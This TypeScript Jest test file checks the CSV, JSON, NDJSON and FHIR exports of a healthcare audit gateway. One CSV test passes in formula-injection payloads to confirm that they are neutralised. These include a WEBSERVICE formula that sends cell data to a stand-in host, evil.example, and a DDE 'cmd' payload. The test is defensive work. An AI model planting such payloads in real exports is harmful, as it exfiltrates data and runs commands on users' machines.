import type { FileFormat, PageFormat } from '../../../../gateway/reports/catalog/file-format.ts';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { AuditRecord } from '../../../../gateway/audit/record/record.ts';
import { csvFileLine, csvLine } from '../../../../gateway/platform/csv-line.ts';
import { findReport } from '../../../../gateway/reports/catalog/reports.ts';
import { eventsOfLeaf } from '../../../../gateway/reports/query/reported-event.ts';
import { createRowWriter } from '../../../../gateway/reports/formats/row-writer.ts';
import type { RowTotals } from '../../../../gateway/reports/formats/text-writer.ts';
import { findR4Faults } from '../../../support/fhir/is-r4.ts';
import { plainLeaf } from '../../../support/fhir/plain-leaf.ts';
import { accessRecord } from '../../audit/sample.ts';
import { FROM_LEDGER } from '../../../../gateway/reports/catalog/coverage.ts';

const report = reportOf('all');
const choice = { filter: {}, isNarrow: false };

function write(
  format: Exclude<FileFormat, PageFormat>,
  records: readonly AuditRecord[],
  totals: RowTotals | null = null,
): string {
  const writer = createRowWriter(format, {
    report,
    choice,
    origin: 'o',
    patientSystem: null,
    at: 1_764_000_000_000,
    lineOf: csvFileLine,
  });
  const events = records.flatMap((record, index) =>
    eventsOfLeaf(plainLeaf(record), { index, isReleased: true, reason: null }, choice),
  );
  return [writer.begin(), ...events.map((event) => writer.row(event)), writer.end(totals)].join('');
}

const TWO = [accessRecord(['p1', 'p2']), accessRecord(['p3'])];
const TOTALS = {
  coverage: FROM_LEDGER,
  rows: 3,
  refused: 1,
  ledger: { origin: 'o', size: 9, root: 'ab' },
};

interface Bundle {
  readonly resourceType: string;
  readonly entry?: readonly {
    readonly fullUrl: string;
    readonly resource: { readonly id: string; readonly resourceType: string };
  }[];
}

describe('a report as CSV', () => {
  it('has a header and one line per row, with line ends as in RFC 4180', () => {
    const text = write('csv', TWO);
    expect(text.split('\r\n')).toHaveLength(5);
    expect(parse(text, { columns: true })).toMatchObject([
      {
        leaf: '0',
        actor: 'physician-7',
        roles: 'physician',
        relation: 'all',
        patient: 'p1',
        records: '1',
        coordinates: 'Patient.birthDate (full, DATE); Patient.ssn (full, SSN)',
        operation: 'Chart',
        outcome: 'permit',
      },
      { leaf: '0', patient: 'p2' },
      { leaf: '1', patient: 'p3' },
    ]);
  });

  it('names the subgraphs whose responses were rejected in the column note', () => {
    const record = accessRecord(['p1'], { details: { rejectedResponses: 'claims,labs' } });
    expect(parse(write('csv', [record]), { columns: true })).toMatchObject([
      { patient: 'p1', outcome: 'permit', note: 'rejected responses of claims, labs' },
    ]);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@x',
    '\t=1',
    '\r=1',
    '=1\r\n=2',
    'a\n=1',
    'a\r=1',
    '"=1',
    '＝1',
    'a;=1',
    ' =1',
    '\u00a0=1',
    'a; =1',
    'a;"=1;b',
    'a\n" "=1',
    'a\t=1',
    'a\n- WEBSERVICE("http://evil.example/"&A1)',
    "a;- cmd|' /C calc'!A0",
  ])(
    'keeps the cell %j from becoming a formula or a separate line, even for a program that splits lines at semicolons',
    (name) => {
      for (const line of [csvFileLine, csvLine]) {
        const text = line([name, 'last']);
        const [cell = '', last] = parse(text, {})[0] ?? [];
        for (const part of cell.split(/(?:;|(?<=.)[\r\n])+/)) {
          expect(part).not.toMatch(/^[=+\-@\t\r＝]/);
          // A program that trims, or takes an empty pair of quotes for a cell that goes on after them, drops these.
          expect(part).not.toMatch(/^["\s]*[=+\-@＝]/);
        }
        expect([cell.replaceAll("'", ''), last]).toEqual([name.replaceAll("'", ''), 'last']);
        expect(/[\r\n]/.test(name) ? text : '"').toContain('"');
      }
    },
  );

  it('keeps lists with hyphens in a note as they are', () => {
    expect(csvLine(['Called:\n- Ada\n- Ben; agreed'])).toBe('"Called:\n- Ada\n- Ben; agreed"\n');
  });
});

describe('a report as JSON', () => {
  it('is a list of its rows, followed by the totals if they are given', () => {
    expect(JSON.parse(write('json', TWO))).toMatchObject([
      { id: '0-0', leaf: 0, patient: 'p1' },
      { id: '0-1', patient: 'p2' },
      { id: '1-0', leaf: 1, patient: 'p3' },
    ]);
    expect(JSON.parse(write('json', []))).toEqual([]);
    expect(JSON.parse(write('json', [], TOTALS))).toEqual([{ end: TOTALS }]);
  });

  it('has one object per line as NDJSON, and a last one with the totals', () => {
    const lines = write('ndjson', TWO, TOTALS).trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    expect(JSON.parse(lines.at(-1) ?? '')).toEqual({ end: TOTALS });
  });
});

describe('a report as FHIR', () => {
  it('is one valid Bundle of the type collection', () => {
    const bundle = JSON.parse(write('fhir', TWO)) as Bundle;
    expect(findR4Faults(bundle)).toEqual([]);
    expect(bundle).toMatchObject({ type: 'collection', timestamp: '2025-11-24T16:00:00.000Z' });
    expect(bundle.entry).toHaveLength(3);
    for (const { fullUrl, resource } of bundle.entry ?? [])
      expect(fullUrl).toBe(`urn:uuid:${resource.id}`);
  });

  it('has no list of entries if there are no events, because FHIR forbids empty lists', () => {
    const bundle = JSON.parse(write('fhir', [])) as Bundle;
    expect(findR4Faults(bundle)).toEqual([]);
    expect(bundle.entry).toBeUndefined();
  });

  it('has one AuditEvent for the access and the denial of a named patient, and two if the denial names no patient', () => {
    const denied = [{ coordinate: 'Patient.ssn', reason: 'role', count: 1 }] as const;
    const record = accessRecord(['p1'], { denied, patients: ['p1'] });
    expect(JSON.parse(write('json', [record]))).toHaveLength(2);
    expect((JSON.parse(write('fhir', [record])) as Bundle).entry).toHaveLength(1);
    const beside = accessRecord(['p1'], { denied });
    expect((JSON.parse(write('fhir', [beside])) as Bundle).entry).toHaveLength(2);
  });

  it('ends with an OperationOutcome, with an issue of severity error only if rows were refused', () => {
    const last = write('fhir-ndjson', TWO, TOTALS).trimEnd().split('\n').at(-1) ?? '';
    expect(JSON.parse(last)).toMatchObject({
      resourceType: 'OperationOutcome',
      issue: [{ severity: 'error', code: 'incomplete' }, { severity: 'information' }],
    });
    const { entry } = JSON.parse(write('fhir', TWO, { ...TOTALS, refused: 0 })) as Bundle;
    expect(entry?.at(-1)?.resource).toMatchObject({ issue: [{ severity: 'information' }] });
  });
});

function reportOf(name: string) {
  const found = findReport(name);
  if (found === null || found.filterType !== 'EventFilter' || !('columns' in found)) {
    throw new Error('The sample is not what the test expects.');
  }
  return found;
}
